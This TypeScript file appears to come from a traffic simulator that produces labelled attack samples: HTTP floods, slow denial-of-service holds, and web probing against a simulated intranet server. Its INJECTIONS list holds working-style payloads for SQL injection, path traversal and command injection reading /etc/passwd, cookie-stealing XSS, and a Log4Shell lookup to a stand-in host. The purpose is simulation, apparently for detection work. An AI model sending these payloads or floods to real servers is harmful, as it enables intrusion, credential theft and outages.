/** Attacks on a web server by asking it: too much, too slowly, or for what it does not have. */
import type { Random } from '../random.js';
import type { Play } from '../simulation.js';
import { ascii } from '../wire/bytes.js';
import type { Host } from '../wire/host.js';
import type { TcpConversation } from '../wire/tcp-conversation.js';
import { type AttackKind, type AttackSettings, type AttackStage, paced } from './attack.js';
import { addressOf, connection, outsider, spawnAt } from './cast.js';

const HOST = 'intranet.corp.example';
const LETTERS = 'abcdefghijklmnopqrstuvwxyz';

function request(path: string, more = ''): Uint8Array {
  return ascii(`GET ${path} HTTP/1.1\r\nHost: ${HOST}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n${more}\r\n`);
}

function answer(status: string, body: string): Uint8Array {
  return ascii(`HTTP/1.1 ${status}\r\nContent-Type: text/html\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
}

function* until(one: TcpConversation, timeUs: number): Play {
  if (timeUs > one.timeUs) yield* one.pause(timeUs - one.timeUs);
}

/** A part of the requests of a flood, one after the other over one connection. */
function* floodingConnection(stage: AttackStage, ends: { client: Host; times: readonly number[] }): Play {
  const { web } = stage.scene.network.servers;
  const one = connection({ client: ends.client, server: web, port: 80 }, ends.times[0]!, stage);
  yield* one.open();
  for (const timeUs of ends.times) {
    yield* until(one, timeUs);
    yield* one.send('client', request(`/?${stage.random.word(6, LETTERS)}`));
    yield* one.send('server', answer('200 OK', '<html><body>Welcome</body></html>\n'));
  }
  yield* one.close('client');
}

/** Connections that a flooder keeps at once. */
const FLOODING_CONNECTIONS = 20;

/** More requests than anybody needs. */
export const httpFlood = {
  name: 'http-flood',
  summary: 'requests for one page of one server without end, each a little different, from one address or several',
  unit: 'requests',
  defaults: { packets: 2000, packetsPerSecond: 300, sources: 1, jitter: 0.3 },
  start(stage, settings) {
    const times = [...paced(stage, settings)];
    const lanes = FLOODING_CONNECTIONS * settings.sources;
    for (let lane = 0; lane < Math.min(lanes, times.length); lane += 1) {
      const client = outsider(
        stage,
        `flooder-${lane % settings.sources}`,
        `203.0.113.${130 + (lane % settings.sources)}`,
      );
      const own = times.filter((_, i) => i % lanes === lane);
      stage.scene.spawn(floodingConnection(stage, { client, times: own }), own[0]!);
    }
    return labelOf(stage, settings, { label: 'http_flood', category: 'flood', attacker: '203.0.113.130' });
  },
} as const satisfies AttackKind;

function labelOf(
  stage: AttackStage,
  { packets, packetsPerSecond }: AttackSettings,
  { label, category, attacker }: { label: string; category: 'flood' | 'slow_dos' | 'scan'; attacker: string },
) {
  const victim = `${addressOf(stage.scene.network.servers.web)}:80`;
  return { label, category, attacker, victim, note: `${packets} in all, ${packetsPerSecond}/s` };
}

/** How long a connection is held by slow words, and how far apart these are. Unit: s. */
const HELD_S = 60;
const WORD_EVERY_S = 10;

type HoldMaker = (one: TcpConversation, random: Random) => Play;

function* slowWords(one: TcpConversation, words: (index: number) => string): Play {
  for (let word = 0; word < HELD_S / WORD_EVERY_S; word += 1) {
    yield* one.pause(WORD_EVERY_S * 1_000_000);
    yield* one.send('client', ascii(words(word)));
  }
  yield* one.pause(1_000_000);
  yield* one.close('server');
}

const HOLDS: Readonly<Record<string, HoldMaker>> = {
  *headers(one) {
    yield* one.send('client', ascii(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n`));
    yield* slowWords(one, (index) => `X-${index}: ${index}\r\n`);
  },
  *body(one) {
    yield* one.send('client', ascii(`POST / HTTP/1.1\r\nHost: ${HOST}\r\nContent-Length: 8192\r\n\r\n`));
    yield* slowWords(one, (index) => `a${index}=1&`);
  },
  /** Takes a large file in small sips: little window, long pauses. */
  *read(one) {
    yield* one.send('client', request('/large.bin'));
    for (let sip = 0; sip < HELD_S / WORD_EVERY_S; sip += 1) {
      yield* one.send('server', ascii('x'.repeat(64)));
      yield* one.pause(WORD_EVERY_S * 1_000_000);
    }
    yield* one.reset('client');
  },
  /** One page in ever other disguise, and then nothing more. */
  *random(one, random) {
    const word = (most: number) => random.word(random.between(4, most), LETTERS);
    yield* one.send('client', request(`/?${word(30)}=${word(40)}`, `Referer: http://${word(60)}.example/\r\n`));
    yield* one.send('server', answer('200 OK', '<html><body>Welcome</body></html>\n'));
    yield* one.pause(8_000_000);
    yield* one.close('server');
  },
};

function* hold(stage: AttackStage, { client, technique }: { client: Host; technique: string }, timeUs: number): Play {
  const { web } = stage.scene.network.servers;
  const one = connection({ client, server: web, port: 80 }, timeUs, stage);
  yield* one.open();
  yield* HOLDS[technique]!(one, stage.random.fork('hold'));
}

/** Connections that are held with next to nothing. */
export const slowDos = {
  name: 'slow-dos',
  summary: 'connections to a web server that are held with next to nothing, until it has none left',
  unit: 'connections',
  techniques: Object.keys(HOLDS),
  defaults: { packets: 160, packetsPerSecond: 20, sources: 1, jitter: 0.3 },
  byTechnique: { random: { packets: 60, packetsPerSecond: 3 } },
  tailS: HELD_S + 15,
  start(stage, settings) {
    const { technique, sources } = settings;
    const clients = Array.from({ length: sources }, (_, i) => outsider(stage, `holder-${i}`, `203.0.113.${140 + i}`));
    const one = (timeUs: number, index: number) =>
      hold(stage, { client: clients[index % sources]!, technique }, timeUs);
    stage.scene.spawn(spawnAt(stage, paced(stage, settings), one), stage.startUs);
    return labelOf(stage, settings, {
      label: `slow_dos_${technique}`,
      category: 'slow_dos',
      attacker: '203.0.113.140',
    });
  },
} as const satisfies AttackKind;

const WORDS = 'admin backup config test old db private tmp upload setup console api logs dev secret data'.split(' ');
const SUFFIXES = ['.php', '.bak', '.zip', '.sql', '.old', '.txt', '/', '.asp'];

/** What a network scanner asks a web server to see how it says no. */
const INJECTIONS = [
  '/products?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--',
  '/download?file=../../../../etc/passwd',
  '/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/?x=$%7Bjndi:ldap://203.0.113.151/a%7D',
  '/login?user=admin%27%20OR%20%271%27=%271',
];

const PROBES = ['/nice%20ports%2C/Tri%6Eity.txt%2ebak', '/nmaplowercheck1715763620', '/NmapUpperCheck1715763620'];

/** What is asked for at this place of the list. */
function pathOf(technique: string, index: number): string {
  if (technique === 'probes') return PROBES[index % PROBES.length]!;
  if (technique === 'injection') return INJECTIONS[index % INJECTIONS.length]!;
  return `/${WORDS[index % WORDS.length]}${SUFFIXES[Math.floor(index / WORDS.length) % SUFFIXES.length]}`;
}

function* askFor(stage: AttackStage, { client, path }: { client: Host; path: string }, timeUs: number): Play {
  const { web } = stage.scene.network.servers;
  const one = connection({ client, server: web, port: 80 }, timeUs, stage);
  yield* one.open();
  yield* one.send('client', request(path, 'Connection: close\r\n'));
  yield* one.send('server', answer('404 Not Found', '<html><body>Nothing here.</body></html>\n'));
  yield* one.close('server');
}

/** Path after path that the server does not have. */
export const webProbing = {
  name: 'web-probing',
  summary:
    'requests for what a web server does not have or must not do: of a word list, a network scanner, or with code in them',
  unit: 'requests',
  techniques: ['paths', 'probes', 'injection'],
  defaults: { packets: 100, packetsPerSecond: 8, jitter: 0.5 },
  byTechnique: { probes: { packets: 6, packetsPerSecond: 2 }, injection: { packets: 12, packetsPerSecond: 1 } },
  start(stage, settings) {
    const { technique } = settings;
    const client = outsider(stage, 'prober', '203.0.113.150');
    const one = (timeUs: number, index: number) => askFor(stage, { client, path: pathOf(technique, index) }, timeUs);
    stage.scene.spawn(spawnAt(stage, paced(stage, settings), one), stage.startUs);
    const label = technique === 'probes' ? 'port_scan_service_probes' : `exploit_web_${technique}`;
    return labelOf(stage, settings, { label, category: 'scan', attacker: '203.0.113.150' });
  },
} as const satisfies AttackKind;
